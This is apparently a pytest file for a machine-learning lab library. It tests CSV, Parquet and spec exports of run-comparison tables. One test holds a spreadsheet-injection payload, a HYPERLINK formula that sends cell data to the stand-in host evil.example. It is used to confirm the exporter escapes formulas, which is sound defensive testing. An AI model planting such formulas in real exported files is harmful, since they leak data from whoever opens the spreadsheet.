"""The table of a comparison as files, from runs that were carried out."""

import csv
import io
import json
from dataclasses import fields, replace

import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

import qlab
from qlab.errors import InvalidConfig
from qlab.export.comparison_table import (
    COLUMNS,
    as_text,
    comparison_csv,
    comparison_parquet,
    comparison_specs,
    spec_of,
)
from qlab.lab.compared import Line, line_of
from qlab.lab.experiment import Experiment
from qlab.lab.store import Store

BEGIN_A_FORMULA = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> Store:
    return Store(tmp_path_factory.mktemp("table") / "home")


@pytest.fixture(scope="module")
def runs(store):
    few = qlab.load_dataset("conv_digits").subset(range(200)).split(50)
    own = qlab.presets["x86"].replace(by_name={"conv2": None})
    return qlab.sweep("conv_digits", few, ["x86", "int4_weight_only", own], store=store)


@pytest.fixture(scope="module")
def lines(runs) -> list[Line]:
    return [line_of(run) for run in runs]


def read(table: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(table.decode("utf-8-sig"), newline="")))


def test_every_field_of_a_line_is_a_column() -> None:
    marked = {f.name: object() for f in fields(Line)}
    probe = Line(**marked)
    shown = [column.value(probe) for column in COLUMNS]
    assert sorted(map(id, shown)) == sorted(map(id, marked.values()))
    assert len({c.name for c in COLUMNS}) == len(COLUMNS)


def test_csv_holds_what_the_lines_hold(lines) -> None:
    table = pd.read_csv(io.BytesIO(comparison_csv(lines)), dtype={"id": str, "sweep": str})
    assert list(table.columns) == [c.name for c in COLUMNS]
    for (_, row), line in zip(table.iterrows(), lines, strict=True):
        assert row["id"] == line.id
        assert row["accuracy"] == line.accuracy  # to the last digit
        assert row["accuracy_low"] == line.low
        assert row["size_bytes"] == line.size
        assert row["backend"] == line.backend
        assert pd.Timestamp(row["created_utc"]).timestamp() == pytest.approx(line.created, abs=1)
    assert table["activation_bits"].isna().tolist() == [False, True, False]
    assert table["rules"].tolist() == [0, 0, 1]


def test_parquet_holds_the_same_with_types(lines) -> None:
    table = pq.read_table(io.BytesIO(comparison_parquet([replace(lines[0], tags=("=a", "b")), *lines[1:]])))
    assert table.column("accuracy").to_pylist() == [line.accuracy for line in lines]
    assert table.column("weight_bits").to_pylist() == [8, 4, 8]
    assert table.column("activation_bits").to_pylist() == [8, None, 8]
    assert table.column("tags").to_pylist()[:2] == [["=a", "b"], []]  # no spreadsheet: texts stay as they are
    assert [t.timestamp() for t in table.column("created_utc").to_pylist()] == pytest.approx(
        [line.created for line in lines], abs=1e-3
    )
    assert table.schema.field("size_bytes").metadata[b"description"].startswith(b"all weights")


def test_types_do_not_depend_on_what_is_missing(lines) -> None:
    bare = [replace(line, **dict.fromkeys(("accuracy", "size", "latency", "dropped", "parent"))) for line in lines]
    schemas = [pq.read_schema(io.BytesIO(comparison_parquet(each))) for each in (lines, bare, [])]
    assert schemas[0].equals(schemas[1])
    assert schemas[0].equals(schemas[2])


@pytest.mark.parametrize("field", ["name", "notes", "model", "data", "dropped", "tags"])
def test_free_text_is_no_formula_and_numbers_stay_numbers(lines, field) -> None:
    text = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    line = replace(lines[0], delta_float=-0.25, **{field: (text,) if field == "tags" else text})
    (row,) = read(comparison_csv([line]))
    column = {"model": "network", "dropped": "stopped_early"}.get(field, field)
    assert row[column] == "'" + text
    assert row["accuracy_minus_float"] == "-0.25"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("W8 A8 · percentile 99", "W8 A8 · percentile 99"),
        ("lr -0.5, a = b", "lr -0.5, a = b"),
        ("", ""),
        ("-3 points", "'-3 points"),
        (" \t+1", "' \t'+1"),
        ("＝1+1", "'＝1+1"),
        ('good;"=1+1', "good;'\"=1+1"),  # the semicolon ends a cell where the comma is the decimal sign
        ("first\r\n@SUM(A1)", "first\r'\n'@SUM(A1)"),
    ],
)
def test_text_is_changed_only_where_it_would_run(text, written) -> None:
    assert as_text(text) == written


@given(st.text(alphabet=st.sampled_from("=+-@＝;,\t\r\n \"'ab1"), max_size=12))
def test_no_cell_begins_a_formula_with_whatever_separator(text) -> None:
    """Taken apart at every sign that some spreadsheet takes for the end of a cell."""
    cells = [as_text(text)]
    for separator in ";\t\r\n":
        cells = [part for cell in cells for part in cell.split(separator)]
    assert not [cell for cell in cells if cell.strip().strip("\"' ").startswith(BEGIN_A_FORMULA) and cell[0] != "'"]


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=40))
def test_any_name_comes_back_from_the_file(text) -> None:
    line = Line(**{f.name: None for f in fields(Line)} | {"name": text, "tags": (), "created": 0.0})
    assert read(comparison_csv([line]))[0]["name"] == as_text(text)
    (row,) = pq.read_table(io.BytesIO(comparison_parquet([line]))).to_pylist()
    assert row["name"] == text


def test_specs_repeat_the_runs(store, runs) -> None:
    store.annotate(runs[1].id, name="renamed")
    named = [runs[0], store.get_run(runs[1].id), runs[2]]
    found = [Experiment.from_dict(d) for d in json.loads(comparison_specs(named))]
    assert [e.spec_hash for e in found] == [run.spec_hash for run in named]
    assert found[1].name == "renamed"
    assert found[2].resolved_mapping.by_name == {"conv2": None}


def test_a_job_of_another_kind_has_no_spec_to_repeat(store, runs) -> None:
    with pytest.raises(InvalidConfig, match="job of kind sweep"):
        spec_of(store.get_run(runs[0].parent))
